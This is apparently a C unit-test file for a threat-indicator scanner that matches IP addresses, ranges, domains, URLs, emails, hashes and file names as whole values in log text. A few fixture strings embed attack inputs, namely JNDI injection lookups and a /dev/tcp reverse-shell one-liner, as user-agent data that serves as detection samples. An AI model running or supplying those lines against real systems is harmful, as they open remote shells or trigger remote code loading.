/* SPDX-License-Identifier: Apache-2.0 */
/* Whole values and nothing else: boundaries, spellings and decoys of every type, on plain text. Offsets are counted by hand. */
#include "watch/scan_kernel.h"
#include "watch_test.h"

#define MD5_A "0123456789abcdef0123456789abcdef"
#define SHA1_A "0123456789abcdef0123456789abcdef01234567"
#define SHA256_A "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

static void
address__is_found_as_a_whole_value_only(void **state)
{
	static const wt_row rows[] = {
		{ "192.0.2.7", "1:0+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "x 192.0.2.7 y", "1:2+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "(192.0.2.7:443)", "1:1+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "end 192.0.2.7.", "1:4+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "192.0.2.7/24", "1:0+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "1192.0.2.7", "" },
		{ "192.0.2.70", "" },
		{ "192.0.2.7.5", "" },
		{ "5.192.0.2.7", "" },
		{ "192.0.2.07", "" },
		{ "a192.0.2.7", "" },
		{ "192.0.2.7a", "" },
		{ "-192.0.2.7", "" },
		{ "192.0.2.7_", "" },
		{ "192.0.2.7.x", "" },
		{ "\xc3\xa9"
		  "192.0.2.7",
		    "" },
		{ "192..0.2.7", "" },
		{ "::ffff:192.0.2.7", "1:0+16 ipv4-addr exact 192.0.2.7 a\n" },
		{ "::FFFF:c000:207 ", "1:0+15 ipv4-addr exact 192.0.2.7 a\n" },
		{ "src:192.0.2.7", "1:4+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "ok\n\n192.0.2.7\r\n", "3:4+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "", "" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_IPV4, "192.0.2.7");
	wt_value(&t, "six", AC_VALUE_IPV6, "2001:db8:ffff::1");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

static void
version_number__is_no_address(void **state)
{
	static const wt_row rows[] = {
		{ "Mozilla/5.0 Chrome/192.0.2.7 Safari/1", "" },
		{ "\"curl/192.0.2.7\"", "" },
		{ "TCP_MISS/200 - DIRECT/192.0.2.7 text/html", "1:22+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "for outside/192.0.2.7 (x)", "1:12+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "version 192.0.2.7", "" },
		{ "version=192.0.2.7", "" },
		{ "Version: 192.0.2.7", "" },
		{ "GET /redirect/192.0.2.7 x", "1:14+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "http://192.0.2.7/", "1:7+9 ipv4-addr exact 192.0.2.7 a\n" },
		/* a name and its address, as OpenVPN and Java have them */
		{ "Alice/192.0.2.7:1194 peer info: IV_VER=2", "1:6+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "[LearnerHandler-/192.0.2.7:52225:x]", "1:17+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "Alice/192.0.2.7: x", "" },
		/* user agents that hold an attack, or a URL */
		{ "{\"user_agent\":\"${jndi:ldap://192.0.2.7:1389/a}\"}", "1:29+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "{\"user_agent\":\"x http:\\/\\/192.0.2.7\\/b\"}", "1:26+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "{\"user_agent\":\"${jndi:dns://u@192.0.2.7}\"}", "1:30+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "{\"user_agent\":\"sh -i >& /dev/tcp/192.0.2.7/44\"}", "1:33+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "{\"user_agent\":\"x (192.0.2.7:80)\"}", "1:18+9 ipv4-addr exact 192.0.2.7 a\n" },
		{ "{\"user_agent\":\"x 192.0.2.7\"}", "" },
		{ "{\"user_agent\":\"x/192.0.2.7 y\"}", "" },
		{ "{\"user_agent\":\"rv:192.0.2.7) y\"}", "" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_IPV4, "192.0.2.7");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_scan(&t, "agent Chrome/192.0.2.7");
	assert_str(ac_buf_view(&t.held), AC_S("1 a version-number\n"));
	wt_close(&t);
}

static void
range__matches_its_members_and_all_ranges_that_nest(void **state)
{
	static const wt_row rows[] = {
		{ "198.51.100.9", "1:0+12 ipv4-addr exact 198.51.100.9 r23,r24,r28,r32,r8\n" },
		{ "198.51.100.16", "1:0+13 ipv4-addr cidr 198.51.100.16 r23,r24,r8\n" },
		{ "198.51.101.1", "1:0+12 ipv4-addr cidr 198.51.101.1 r23,r8\n" },
		{ "198.1.1.1", "1:0+9 ipv4-addr cidr 198.1.1.1 r8\n" },
		{ "199.51.100.9", "" },
		{ "203.0.113.129", "1:0+13 ipv4-addr cidr 203.0.113.129 r25\n" },
		{ "203.0.113.127", "" },
		{ "2001:db8:1:2::3", "1:0+15 ipv6-addr cidr 2001:db8:1:2::3 v32,v47,v65\n" },
		{ "2001:db8:1:2:8000::3", "1:0+20 ipv6-addr cidr 2001:db8:1:2:8000::3 v32,v47\n" },
		{ "2001:db9::3", "" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "r8", AC_VALUE_IPV4, "198.0.0.0/8");
	wt_value(&t, "r23", AC_VALUE_IPV4, "198.51.100.0/23");
	wt_value(&t, "r24", AC_VALUE_IPV4, "198.51.100.0/24");
	wt_value(&t, "r28", AC_VALUE_IPV4, "198.51.100.0/28");
	wt_value(&t, "r32", AC_VALUE_IPV4, "198.51.100.9");
	wt_value(&t, "r25", AC_VALUE_IPV4, "203.0.113.128/25");
	wt_value(&t, "v32", AC_VALUE_IPV6, "2001:db8::/32");
	wt_value(&t, "v47", AC_VALUE_IPV6, "2001:db8::/47");
	wt_value(&t, "v65", AC_VALUE_IPV6, "2001:db8:1:2::/65");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

static void
ipv6__is_found_in_every_spelling(void **state)
{
	static const wt_row rows[] = {
		{ "2001:db8::1", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:DB8::1", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:0db8:0000:0000:0000:0000:0000:0001", "1:0+39 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8:0:0:0:0:0:1", "1:0+20 ipv6-addr exact 2001:db8::1 a\n" },
		{ "[2001:db8::1]:443", "1:1+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "from 2001:db8::1.", "1:5+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8::1: up", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "src:2001:db8::1,x", "1:4+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8::1%eth0", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8::1/64", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "1:2:3:4:5:6:7:8", "1:0+15 ipv6-addr exact 1:2:3:4:5:6:7:8 b\n" },
		{ "2001:db8::1.443 > 2001:db8::9.80:", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "1:2:3:4:5:6:7:8.65535", "1:0+15 ipv6-addr exact 1:2:3:4:5:6:7:8 b\n" },
		{ "2001:db8:0:0:0:0:0:1:443", "1:0+20 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8::1:443 [19/Jul/2021:10:00:00.123] fe", "1:0+11 ipv6-addr exact 2001:db8::1 a\n" },
		{ "2001:db8::1:443 [19/Jul/2021:10:00:00 +0000]", "" },
		{ "2001:db8::1.123456", "" },
		{ "2001:db8::1.4a", "" },
		{ "2001:db8::1.4.3", "" },
		{ "1:2:3:4:5:6:7:8:9", "" },
		{ "2001:db8::12", "" },
		{ "12001:db8::1", "" },
		{ "2001:db8::1:1", "" },
		{ "2001:db8::1z", "" },
		{ "10:00:00 10:00:00", "" },
		{ "std::string::npos", "" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_IPV6, "2001:db8::1");
	wt_value(&t, "b", AC_VALUE_IPV6, "1:2:3:4:5:6:7:8");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

static void
domain__matches_itself_and_its_subdomains(void **state)
{
	static const wt_row rows[] = {
		{ "evil.example", "1:0+12 domain-name exact evil.example a\n" },
		{ "EVIL.Example", "1:0+12 domain-name exact evil.example a\n" },
		{ "evil.example.", "1:0+12 domain-name exact evil.example a\n" },
		{ "a.b.evil.example:80", "1:0+16 domain-name subdomain a.b.evil.example a\n" },
		{ "c.deep.evil.example", "1:0+19 domain-name subdomain c.deep.evil.example a,d\n" },
		{ "_dmarc.evil.example", "1:0+19 domain-name subdomain _dmarc.evil.example a\n" },
		{ "\"evil.example\"", "1:1+12 domain-name exact evil.example a\n" },
		{ "http://evil.example/x", "1:7+12 domain-name exact evil.example a\n" },
		{ "me@evil.example", "1:3+12 domain-name exact evil.example a\n" },
		{ "notevil.example", "" },
		{ "not-evil.example", "" },
		{ "evil.example.org", "" },
		{ "evil.example-x", "" },
		{ "evil.examplex", "" },
		{ "evil.example_", "" },
		{ "xevil.example", "" },
		{ "evil.example\xc3\xa9", "" },
		{ "evil..example", "" },
		{ "evil. example", "" },
		{ "xn--bcher-kva.example", "1:0+21 domain-name exact xn--bcher-kva.example i\n" },
		{ "b\xc3\xbc"
		  "cher.example",
		    "1:0+15 domain-name exact xn--bcher-kva.example i\n" },
		{ "www.B\xc3\x9c"
		  "CHER.example x",
		    "1:0+19 domain-name subdomain www.xn--bcher-kva.example i\n" },
		{ "evil.xn--p1ai", "1:0+13 domain-name exact evil.xn--p1ai p\n" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_DOMAIN, "evil.example");
	wt_value(&t, "d", AC_VALUE_DOMAIN, "deep.evil.example");
	wt_value(&t, "i", AC_VALUE_DOMAIN,
	    "b\xc3\xbc"
	    "cher.example");
	wt_value(&t, "p", AC_VALUE_DOMAIN, "evil.xn--p1ai");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

static void
open_with_digests(wt *t)
{
	wt_open(t);
	wt_value(t, "m", AC_VALUE_MD5, MD5_A);
	wt_value(t, "s1", AC_VALUE_SHA1, SHA1_A);
	wt_value(t, "s2", AC_VALUE_SHA256, SHA256_A);
	wt_value(t, "s5", AC_VALUE_SHA512, SHA256_A SHA256_A);
}

static void
digest__matches_by_exact_length(void **state)
{
	static const wt_row rows[] = {
		{ MD5_A, "1:0+32 md5 exact " MD5_A " m\n" },
		{ "MD5=0123456789ABCDEF0123456789ABCDEF,X", "1:4+32 md5 exact " MD5_A " m\n" },
		{ SHA1_A " ", "1:0+40 sha1 exact " SHA1_A " s1\n" },
		{ "sha256:" SHA256_A, "1:7+64 sha256 exact " SHA256_A " s2\n" },
		{ MD5_A "0", "" },
		{ "0" MD5_A, "" },
		{ MD5_A "z", "" },
		{ "012345678pqrstuv0123456789abcdef", "" },
		{ "01234567890bcdef0123456789qbcdef", "" },
		{ "0123456789abcdeF0123456789ABcdev", "" },
		{ "0123456789abcdef0123456789abcd\xe5\xe6", "" },
		{ MD5_A "-", "" },
		{ "x." MD5_A, "" },
		{ MD5_A ".exe", "" },
		{ "0123456789abcdef0123456789abcde", "" },
		{ SHA256_A SHA256_A, "1:0+128 sha512 exact " SHA256_A SHA256_A " s5\n" },
	};

	(void)state;
	wt_check(open_with_digests, rows, AC_COUNT(rows));
}

/* So many that they are told eight at a time, at all places of a word of the maps; with one digit, or many, before or behind it is another word. */
static void
digests__are_found_among_many_at_every_place(void **state)
{
	static const size_t lengths[] = { 32, 40, 64, 128 }, more[] = { 1, 8, 16, 64, 100 };
	static char input[1 << 16];
	static const char digits[] = SHA256_A SHA256_A SHA256_A SHA256_A;
	size_t n = 0;
	wt t;

	(void)state;
	open_with_digests(&t);
	for (size_t shift = 0; shift < 64; shift++)
		for (size_t i = 0; i < AC_COUNT(lengths); i++) {
			const char *digest = lengths[i] == 40 ? SHA1_A : digits;

			n = (n + 63) / 64 * 64 + shift;
			n += (size_t)sprintf(input + n, "%.*s ", (int)lengths[i], digest);
			/* what is longer must not be as long as another digest */
			for (size_t k = 0; k < AC_COUNT(more) && shift < 16 && i == 3; k++) {
				n = (n + 63) / 64 * 64 + shift;
				n += (size_t)sprintf(
				    input + n, "%.*s%.*s ", (int)lengths[i], digest, (int)more[k], digits);
			}
		}
	for (size_t i = 0; i < n; i++)
		input[i] = input[i] ? input[i] : ' ';
	wt_scan_n(&t, (ac_str){ input, n }, 0);
	assert_int_equal(t.counts.hits, 64 * AC_COUNT(lengths));
	wt_close(&t);
}

/* A URL whose path has n bytes, or what must be looked at twice at its end; alone, and in two fields of a record. */
#define PATH_MAX_BYTES 150
static const char *const path_ends[] = { "", "&b", ",b", ";b", "%20b", "a?b=c", "=b", "(b)", "!" };

/* Those of two kinds of ends begin otherwise. */
static void
put_path(char *out, size_t n, size_t kind)
{
	size_t end = strlen(path_ends[kind]);

	out[0] = '/';
	for (size_t i = 1; i < n; i++)
		out[i] = "path/segment.of-bytes"[(i + kind) % 21];
	memcpy(out + n, path_ends[kind], end + 1);
}

static void
urls__are_found_whatever_the_length_of_their_paths(void **state)
{
	static char input[AC_COUNT(path_ends) * PATH_MAX_BYTES * 2 * (PATH_MAX_BYTES + 100)];
	char path[PATH_MAX_BYTES + 16], url[PATH_MAX_BYTES + 64];
	size_t n = 0, urls = 0;
	wt t;

	(void)state;
	wt_open(&t);
	for (size_t kind = 0; kind < AC_COUNT(path_ends); kind++)
		for (size_t length = 1; length < PATH_MAX_BYTES; length++) {
			put_path(path, length, kind);
			(void)snprintf(url, sizeof(url), "http://paths.example%s", path);
			wt_value(&t, "u", AC_VALUE_URL, url);
			n += (size_t)sprintf(input + n, "<a href=\"%s\">x</a>\n", url);
			n += (size_t)sprintf(input + n,
			    "{\"event_type\":\"http\",\"http\":{\"hostname\":\"paths.example\",\"url\":\"%s\"}}\n",
			    path);
			urls++;
		}
	wt_scan_n(&t, (ac_str){ input, n }, 0);
	assert_int_equal(t.counts.hits, 2 * urls);
	wt_close(&t);
}

static void
url__matches_as_a_whole_with_its_path_exactly(void **state)
{
	static const wt_row rows[] = {
		{ "http://bad.example/a/B?c=d", "1:0+26 url url http://bad.example/a/B?c=d u\n" },
		{ "HTTP://Bad.Example:80/a/B?c=d", "1:0+29 url url http://bad.example/a/B?c=d u\n" },
		{ "see http://bad.example/a/B?c=d, then", "1:4+26 url url http://bad.example/a/B?c=d u\n" },
		{ "(http://bad.example/a/B?c=d)", "1:1+26 url url http://bad.example/a/B?c=d u\n" },
		{ "\"http://bad.example/a/B?c=d\"", "1:1+26 url url http://bad.example/a/B?c=d u\n" },
		{ "x,http://bad.example/a/B?c=d,200", "1:2+26 url url http://bad.example/a/B?c=d u\n" },
		{ "\"http://bad.example/a/B?c=d,e\"", "" },
		{ "http://bad.example/a/b?c=d", "" },
		{ "http://bad.example/a/B?c=dd", "" },
		{ "http://bad.example/a/B", "" },
		{ "https://bad.example/a/B?c=d", "" },
		{ "http://bad.example:8080/a/B?c=d", "" },
		{ "xhttp://bad.example/a/B?c=d", "" },
		{ "http://notbad.example/a/B?c=d", "" },
		{ "http://192.0.2.80:8080/gate", "1:0+27 url url http://192.0.2.80:8080/gate v4\n" },
		{ "http://[2001:DB8:0::5]/six", "1:0+26 url url http://[2001:db8::5]/six v6\n" },
		{ "https://root.example", "1:0+20 url url https://root.example r\n" },
		{ "https://root.example/", "1:0+21 url url https://root.example/ r\n" },
		{ "https://root.example/x", "" },
		{ "http://m\xc3\xbcnchen.example/x", "1:0+25 url url http://xn--mnchen-3ya.example/x idn\n" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "u", AC_VALUE_URL, "http://bad.example/a/B?c=d");
	wt_value(&t, "v4", AC_VALUE_URL, "http://192.0.2.80:8080/gate");
	wt_value(&t, "v6", AC_VALUE_URL, "http://[2001:db8::5]/six");
	wt_value(&t, "r", AC_VALUE_URL, "https://root.example/");
	wt_value(&t, "idn", AC_VALUE_URL, "http://m\xc3\xbcnchen.example/x");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

/* Hosts that are found as names, and those that are not: longer than a window, without a dot, of many labels, with a digit at the end. Each URL once. */
static void
url__is_found_once_whatever_its_host(void **state)
{
	static const char *const hosts[] = { "a.example", "localhost", "a.b.c.d.e.f.g.example",
		"a.b.c.d.e.f.g.h.i.j.example", "host.example9", "under_score.example", "xn--mnchen-3ya.example",
		"twenty-characters-and.twenty-characters-and.four.example",
		"twenty-characters-and.twenty-characters-and.fives.example",
		"twenty-characters-and.twenty-characters-and.twenty-ch.example",
		"twenty-characters-and.twenty-characters-and.twenty-charac.example" };
	static char input[1000];
	char url[128];
	wt t;

	(void)state;
	wt_open(&t);
	for (size_t i = 0; i < AC_COUNT(hosts); i++) {
		(void)snprintf(url, sizeof(url), "http://%s/p", hosts[i]);
		wt_value(&t, "u", AC_VALUE_URL, url);
	}
	for (size_t i = 0; i < AC_COUNT(hosts); i++)
		for (size_t at = 0; at <= 300; at += 150) {
			int n = snprintf(url, sizeof(url), "http://%s/p", hosts[i]);

			memset(input, ' ', sizeof(input));
			memcpy(input + at, url, (size_t)n);
			wt_scan_n(&t, (ac_str){ input, at == 150 ? at + (size_t)n : sizeof(input) }, 0);
			if (t.counts.hits != 1)
				print_error("%s at %zu: %.*s\n", url, at, AC_FMT(ac_buf_view(&t.report)));
			assert_int_equal(t.counts.hits, 1);
		}
	wt_close(&t);
}

static void
url_and_its_host__are_two_hits(void **state)
{
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "u", AC_VALUE_URL, "http://bad.example/a");
	wt_value(&t, "h", AC_VALUE_DOMAIN, "bad.example");
	assert_str(wt_scan(&t, "http://bad.example/a"),
	    AC_S("1:0+20 url url http://bad.example/a u\n1:7+11 domain-name exact bad.example h\n"));
	wt_close(&t);
}

static void
email__matches_without_case(void **state)
{
	static const wt_row rows[] = {
		{ "<Bad.Guy+x@Evil.example>", "1:1+22 email-addr exact bad.guy+x@evil.example e\n" },
		{ "mailto:bad.guy+x@evil.example", "1:7+22 email-addr exact bad.guy+x@evil.example e\n" },
		{ "from=bad.guy+x@evil.example, y", "1:5+22 email-addr exact bad.guy+x@evil.example e\n" },
		{ "not.bad.guy+x@evil.example", "" },
		{ "x+bad.guy+x@evil.example", "" },
		{ "guy+x@evil.example", "" },
		{ "bad.guy+x@sub.evil.example", "" },
		{ "bad.guy+x@evil.example.org", "" },
		{ "o'hara&co@evil.example", "1:0+22 email-addr exact o'hara&co@evil.example o\n" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "e", AC_VALUE_EMAIL, "bad.guy+x@evil.example");
	wt_value(&t, "o", AC_VALUE_EMAIL, "o'hara&co@evil.example");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

/* Far from the ends of the text names are looked up many at once, and their hosts are remembered when nobody lists them. */
static void
email__is_found_where_its_host_is_known_to_be_nobodys(void **state)
{
	ac_buf line, want;
	size_t at = 100;
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "e", AC_VALUE_EMAIL, "bad.guy+x@mail.example");
	wt_value(&t, "o", AC_VALUE_EMAIL, "o'hara&co@mail.example");
	wt_value(&t, "n", AC_VALUE_DOMAIN, "other.mail.example");
	ac_buf_init(&line, 1 << 20);
	ac_buf_init(&want, 1 << 20);
	ac_buf_printf(&line, "%100s", "");
	for (unsigned i = 0; i < 500; i++) {
		static const char round[] =
		    "mail.example x@mail.example .Bad.Guy+x@Mail.example =o'hara&co@mail.example ";

		ac_buf_printf(&line, "%s", round);
		ac_buf_printf(&want, "1:%zu+22 email-addr exact bad.guy+x@mail.example e\n", at + 29);
		ac_buf_printf(&want, "1:%zu+22 email-addr exact o'hara&co@mail.example o\n", at + 53);
		at += sizeof(round) - 1;
	}
	ac_buf_printf(&line, "@mail.example %100s", "");
	wt_scan_n(&t, ac_buf_view(&line), 0);
	assert_str(ac_buf_view(&t.report), ac_buf_view(&want));
	ac_buf_done(&line);
	ac_buf_done(&want);
	wt_close(&t);
}

static void
file_name__is_the_whole_last_component(void **state)
{
	static const wt_row rows[] = {
		{ "C:\\Temp\\Evil-Tool.EXE", "1:8+13 file-name exact evil-tool.exe f\n" },
		{ "/tmp/evil-tool.exe", "1:5+13 file-name exact evil-tool.exe f\n" },
		{ "ran evil-tool.exe.", "1:4+13 file-name exact evil-tool.exe f\n" },
		{ "GET /x/evil-tool.exe?q", "1:7+13 file-name exact evil-tool.exe f\n" },
		{ "not-evil-tool.exe", "" },
		{ "evil-tool.exe.bak", "" },
		{ "evil-tool.exe2", "" },
		{ "a.evil-tool.exe", "" },
		{ "/x/evil-tool.exe/y", "" },
		{ "C:\\dir\\My Report (1).docm", "1:7+18 file-name exact my report (1).docm s\n" },
		{ "my report (2).docm", "" },
		{ "xmy report (1).docm", "" },
		{ "/usr/bin/gatekit x", "1:9+7 file-name exact gatekit p\n" },
		{ "gatekits", "" },
		{ "W", "1:0+1 file-name exact w q\n" },
		{ " w ", "1:1+1 file-name exact w q\n" },
		{ "ww xw", "" },
		{ "gatekit.sh", "" },
		{ "a dump.001 b", "1:2+8 file-name exact dump.001 n\n" },
	};
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "f", AC_VALUE_FILE_NAME, "evil-tool.exe");
	wt_value(&t, "s", AC_VALUE_FILE_NAME, "My Report (1).docm");
	wt_value(&t, "p", AC_VALUE_FILE_NAME, "gatekit");
	wt_value(&t, "n", AC_VALUE_FILE_NAME, "dump.001");
	wt_value(&t, "q", AC_VALUE_FILE_NAME, "w");
	wt_rows(&t, rows, AC_COUNT(rows));
	wt_close(&t);
}

static void
nul_bytes__are_ordinary_delimiters(void **state)
{
	static const char input[] = "x\0evil.example\0y";
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_DOMAIN, "evil.example");
	wt_build(&t);
	wt_scan_n(&t, (ac_str){ input, sizeof(input) - 1 }, 0);
	assert_str(ac_buf_view(&t.report), AC_S("1:2+12 domain-name exact evil.example a\n"));
	wt_close(&t);
}

/* A token at every place of the 64-byte words and regions that the bit logic works in. */
static void
token__is_found_at_every_place(void **state)
{
	static const struct {
		const char *token;
		const char *type;
	} tokens[] = { { "192.0.2.7", "ipv4-addr" }, { "a.evil.example", "domain-name" },
		{ "2001:db8::1", "ipv6-addr" }, { "2001:db8:0:0:0:0:0:1", "ipv6-addr" }, { MD5_A, "md5" },
		{ SHA256_A, "sha256" }, { "http://bad.example/a", "url" },
		{ "http://www.longer.name.bad.example/a", "url" } };
	static char input[AC_REGION_WORDS * 64 + 1000];
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "a", AC_VALUE_IPV4, "192.0.2.7");
	wt_value(&t, "b", AC_VALUE_DOMAIN, "evil.example");
	wt_value(&t, "c", AC_VALUE_IPV6, "2001:db8::1");
	wt_value(&t, "d", AC_VALUE_MD5, MD5_A);
	wt_value(&t, "e", AC_VALUE_SHA256, SHA256_A);
	wt_value(&t, "f", AC_VALUE_URL, "http://bad.example/a");
	wt_value(&t, "g", AC_VALUE_URL, "http://www.longer.name.bad.example/a");
	wt_build(&t);
	for (size_t k = 0; k < AC_COUNT(tokens); k++) {
		size_t n = strlen(tokens[k].token), region = AC_REGION_WORDS * (size_t)64;

		for (size_t at = region - 130; at < region + 5; at++)
			for (unsigned tail = 0; tail < 2; tail++) {
				char want[64];

				memset(input, ' ', sizeof(input));
				memcpy(input + at, tokens[k].token, n);
				wt_scan_n(&t, (ac_str){ input, tail ? at + n : sizeof(input) }, 0);
				(void)snprintf(want, sizeof(want), "1:%zu+%zu %s ", at, n, tokens[k].type);
				if (!ac_str_starts(ac_buf_view(&t.report), ac_str_from(want)))
					print_error("%s\n got %.*s\n", want, AC_FMT(ac_buf_view(&t.report)));
				assert_true(ac_str_starts(ac_buf_view(&t.report), ac_str_from(want)));
				assert_int_equal(t.counts.hits, 1);
			}
	}
	wt_close(&t);
}

/* Seven words stand in 64 bytes, one of which begins in those before; and short ones at the text's begin, where fewer bytes stand before them than a filter asks for. */
static void
words__are_found_however_many_there_are(void **state)
{
	static char input[3 * AC_REGION_WORDS * 64];
	wt t;

	(void)state;
	wt_open(&t);
	wt_value(&t, "m", AC_VALUE_FILE_NAME, "evil-one");
	wt_value(&t, "f", AC_VALUE_FILE_NAME, "zap");
	wt_build(&t);
	for (size_t shift = 0; shift < 9; shift++) {
		size_t n = shift, words = 0;

		memset(input, ' ', shift);
		for (; n + 9 < sizeof(input); n += 9, words++)
			memcpy(input + n, "evil-one\n", 9);
		wt_scan_n(&t, (ac_str){ input, n }, 0);
		assert_int_equal(t.counts.hits, words);
	}
	wt_scan_n(&t, AC_S("zap\nzap"), 0);
	assert_int_equal(t.counts.hits, 2);
	wt_scan_n(&t, AC_S("zap\nevil-one\nzap\nzap\nzap\nzap"), 0);
	assert_int_equal(t.counts.hits, 6);
	wt_close(&t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(address__is_found_as_a_whole_value_only),
		cmocka_unit_test(version_number__is_no_address),
		cmocka_unit_test(range__matches_its_members_and_all_ranges_that_nest),
		cmocka_unit_test(ipv6__is_found_in_every_spelling),
		cmocka_unit_test(domain__matches_itself_and_its_subdomains),
		cmocka_unit_test(digest__matches_by_exact_length),
		cmocka_unit_test(digests__are_found_among_many_at_every_place),
		cmocka_unit_test(urls__are_found_whatever_the_length_of_their_paths),
		cmocka_unit_test(url__matches_as_a_whole_with_its_path_exactly),
		cmocka_unit_test(url__is_found_once_whatever_its_host),
		cmocka_unit_test(url_and_its_host__are_two_hits),
		cmocka_unit_test(email__matches_without_case),
		cmocka_unit_test(email__is_found_where_its_host_is_known_to_be_nobodys),
		cmocka_unit_test(file_name__is_the_whole_last_component),
		cmocka_unit_test(nul_bytes__are_ordinary_delimiters),
		cmocka_unit_test(token__is_found_at_every_place),
		cmocka_unit_test(words__are_found_however_many_there_are),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
